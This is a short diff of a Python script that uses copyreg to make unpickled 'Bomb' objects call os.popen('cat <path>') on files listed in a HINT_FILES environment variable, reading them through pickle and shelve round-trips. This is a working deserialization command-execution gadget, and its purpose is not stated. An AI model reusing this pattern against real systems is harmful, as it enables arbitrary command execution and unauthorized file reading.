@@ -24,7 +24,7 @@ class Other(Bomb):
 copyreg.pickle(Other, lambda bomb: (os.popen, ("cat %s 2>/dev/null" % bomb.path,)))
 seen = []
 for path in os.environ["HINT_FILES"].split(":"):
-    with shelve.open("/tmp/shelf") as shelf:
+    with shelve.open("shelf") as shelf:
         shelf["x"] = Bomb(path)
         seen.append(shelf["x"].read())
     seen += [pickle.loads(pickle.dumps(kind(path))).read() for kind in (Bomb, Other)]
